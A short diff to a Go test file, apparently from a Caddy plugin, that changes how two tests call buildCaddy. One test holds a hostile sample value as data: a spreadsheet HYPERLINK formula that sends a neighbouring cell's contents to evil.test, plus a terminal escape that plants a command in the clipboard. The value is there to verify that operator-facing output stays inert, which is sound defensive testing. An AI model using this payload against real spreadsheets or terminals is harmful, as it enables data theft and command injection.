@@ -23,7 +23,7 @@ import (
 // reload`'s do.
 func TestJitUsersCommand(t *testing.T) {
 	dir := t.TempDir()
-	bin := buildCaddy(t, dir)
+	bin := buildCaddy(t)
 	admin := freePort(t)
 	s := startSiteOpts(t, siteOptions{adminPort: admin})
 	st := openStore(t, s.dir)
@@ -115,7 +115,7 @@ func TestJitUsersCommand(t *testing.T) {
 // running a cell as a formula. JSON keeps the values as stored.
 func TestDirectoryOutputIsInertForOperators(t *testing.T) {
 	dir := t.TempDir()
-	bin := buildCaddy(t, dir)
+	bin := buildCaddy(t)
 	admin := freePort(t)
 	s := startSiteOpts(t, siteOptions{adminPort: admin})
 	const name = "=HYPERLINK(\"https://evil.test/?\"&A2,\"Open\")\x1b]52;c;ZWNobyBvd25lZA==\x07"
